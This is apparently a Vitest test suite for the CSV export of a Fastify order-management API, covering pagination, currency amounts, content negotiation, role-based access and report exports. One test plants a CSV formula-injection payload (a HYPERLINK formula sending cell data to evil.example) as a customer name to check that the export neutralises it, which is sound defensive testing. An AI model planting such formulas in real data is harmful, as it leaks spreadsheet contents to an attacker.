import type { FastifyInstance } from 'fastify'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { TEST_ADMIN, buildTestApp } from '../support/app.js'
import { bearer, tokenFor } from '../support/auth.js'
import { createSku, orderIn, placeOrder } from '../support/fixtures.js'

interface Order {
  order_id: string
  status: string
  sales_rep: string
  currency: string
  total_amount: number
  customer: { name: string }
}

/** A CSV body read by an independent parser (Papa Parse), as a spreadsheet or a script would. */
function parseCsv(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })
  expect(parsed.errors).toEqual([])
  return parsed.data
}

describe('CSV export of order lists and reports', () => {
  let app: FastifyInstance
  let admin: Record<string, string>
  let rep: Record<string, string>
  let position = 0
  const OTHER_REP = 'other-rep@test.local'
  const ORDERS = 430 // more than two pages of the export's 200

  beforeAll(async () => {
    ;({ app } = await buildTestApp())
    admin = bearer(await tokenFor(app, 'admin', TEST_ADMIN.email))
    rep = bearer(await tokenFor(app, 'sales_rep'))
    await tokenFor(app, 'sales_rep', OTHER_REP)
    const inr = (await createSku(app, { unit_price: 123_456, tax_rate_bp: 1800 })).sku
    const usd = (await createSku(app, { unit_price: 999, currency: 'USD', tax_rate_bp: 0 })).sku
    for (let i = 0; i < ORDERS; i++) {
      const order = await placeOrder(app, { skus: [i % 3 === 0 ? usd : inr], ...(i % 2 ? { salesRep: OTHER_REP } : {}) })
      position = order.position
    }
    position = (await orderIn(app, 'cancelled', { skus: [inr] })).position
    const hostile = await app.orderCommands.place(
      {
        customer: { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: 'x@evil.example' },
        items: [{ sku: inr, quantity: 1 }],
      },
      { sub: 'sales-rep@test.local', role: 'sales_rep' },
      { actor: 'sales-rep@test.local', correlationId: 'csv' },
    )
    position = hostile.order.position
  })
  afterAll(async () => {
    await app.close()
  })

  /** Every page of the JSON list for a query. */
  async function allPages(headers: Record<string, string>, query: string): Promise<Order[]> {
    const orders: Order[] = []
    let cursor: string | null = null
    do {
      const url: string = `/api/orders?${query}&limit=200&min_position=${position}${cursor ? `&cursor=${cursor}` : ''}`
      const page = (await app.inject({ url, headers })).json<{ items: Order[]; next_cursor: string | null }>()
      orders.push(...page.items)
      cursor = page.next_cursor
    } while (cursor)
    return orders
  }

  it.each([
    ['every order', ''],
    ['a status', 'status=cancelled'],
    ['a sales rep', `sales_rep=${OTHER_REP}`],
    ['a customer prefix', 'customer=acme'],
  ])('the export holds exactly the JSON list’s orders, all pages (%s)', async (_, query) => {
    const response = await app.inject({ url: `/api/orders?${query}&format=csv&min_position=${position}`, headers: admin })
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/)
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="orders-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv"$/,
    )
    expect(response.body.includes('\r\n')).toBe(true) // RFC 4180 line breaks
    const rows = parseCsv(response.body)
    const json = await allPages(admin, query)
    expect(json.length).toBeGreaterThan(0)
    expect(rows.map((row) => [row.order_id, row.status, row.sales_rep, row.currency, Number(row.total_amount)])).toEqual(
      json.map((order) => [order.order_id, order.status, order.sales_rep, order.currency, order.total_amount]),
    )
  })

  it('amounts come in minor units and as decimals of their currency', async () => {
    const rows = parseCsv((await app.inject({ url: `/api/orders?format=csv`, headers: admin })).body)
    const inr = rows.find((row) => row.currency === 'INR' && row.customer_name === 'ACME Ltd')
    expect([inr?.subtotal, inr?.subtotal_decimal, inr?.tax_amount_decimal, inr?.total_amount_decimal]).toEqual([
      '123456',
      '1234.56',
      '222.22',
      '1456.78',
    ])
    const usd = rows.find((row) => row.currency === 'USD')
    expect([usd?.total_amount, usd?.total_amount_decimal]).toEqual(['999', '9.99'])
  })

  it('is chosen by Accept: text/csv as well; ?format=json and other Accept values keep JSON', async () => {
    const byHeader = await app.inject({ url: '/api/orders?status=cancelled', headers: { ...admin, accept: 'text/csv' } })
    expect(byHeader.headers['content-type']).toMatch(/^text\/csv/)
    const preferred = await app.inject({
      url: '/api/orders?status=cancelled',
      headers: { ...admin, accept: 'application/json;q=0.5, text/csv' },
    })
    expect(preferred.headers['content-type']).toMatch(/^text\/csv/)
    const json = await app.inject({
      url: '/api/orders?status=cancelled&format=json',
      headers: { ...admin, accept: 'text/csv' },
    })
    expect(json.headers['content-type']).toMatch(/^application\/json/)
    const anything = await app.inject({ url: '/api/orders?status=cancelled', headers: { ...admin, accept: '*/*' } })
    expect(anything.headers['content-type']).toMatch(/^application\/json/)
    const refused = await app.inject({ url: '/api/orders?format=xlsx', headers: admin })
    expect(refused.statusCode).toBe(400)
  })

  it('a cell a spreadsheet would run as a formula comes out neutralised (quoted, prefixed with a quote mark)', async () => {
    const response = await app.inject({ url: '/api/orders?customer=%3Dhyperlink&format=csv', headers: admin })
    const rows = parseCsv(response.body)
    expect(rows).toHaveLength(1)
    expect(rows[0]?.customer_name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
    // `customer` matches the start of the e-mail as well, in any case.
    const byEmail = parseCsv((await app.inject({ url: '/api/orders?customer=X%40Evil&format=csv', headers: admin })).body)
    expect(byEmail.map((row) => row.customer_email)).toEqual(['x@evil.example'])
  })

  it('a sales rep’s export holds only its own orders, like its JSON list', async () => {
    const rows = parseCsv((await app.inject({ url: `/api/orders?format=csv&min_position=${position}`, headers: rep })).body)
    expect(rows.length).toBeGreaterThan(ORDERS / 2 - 5)
    expect(new Set(rows.map((row) => row.sales_rep))).toEqual(new Set(['sales-rep@test.local']))
    expect(rows.map((row) => row.order_id)).toEqual((await allPages(rep, '')).map((order) => order.order_id))
    const auditor = bearer(await tokenFor(app, 'auditor'))
    expect(
      (await app.inject({ url: '/api/reports/summaries?from=2020-01-01&to=2030-01-01&format=csv', headers: rep })).statusCode,
    ).toBe(403)
    expect(
      (await app.inject({ url: '/api/reports/summaries?from=2020-01-01&to=2030-01-01&format=csv', headers: auditor })).statusCode,
    ).toBe(200)
  })

  it('a report exports one row per bucket and currency, with the same figures as its JSON', async () => {
    const today = new Date().toISOString().slice(0, 10)
    const query = `from=${today}&to=${new Date(Date.now() + 86_400_000).toISOString().slice(0, 10)}&group_by=sales_rep&min_position=${position}`
    const json = (await app.inject({ url: `/api/reports/summaries?${query}`, headers: admin })).json<{
      buckets: { sales_rep: string; currency: string; total_amount: number; net_amount: number }[]
    }>()
    const response = await app.inject({ url: `/api/reports/summaries?${query}`, headers: { ...admin, accept: 'text/csv' } })
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="revenue-day-.+\.csv"$/)
    const rows = parseCsv(response.body)
    expect(Object.keys(rows[0] ?? {})).toEqual(
      expect.arrayContaining(['start', 'end', 'sales_rep', 'currency', 'total_amount', 'total_amount_decimal', 'net_amount']),
    )
    expect(rows.map((row) => [row.sales_rep, row.currency, Number(row.total_amount), Number(row.net_amount)])).toEqual(
      json.buckets.map((b) => [b.sales_rep, b.currency, b.total_amount, b.net_amount]),
    )
    expect(new Set(rows.map((row) => row.currency))).toEqual(new Set(['INR', 'USD']))
  })
})
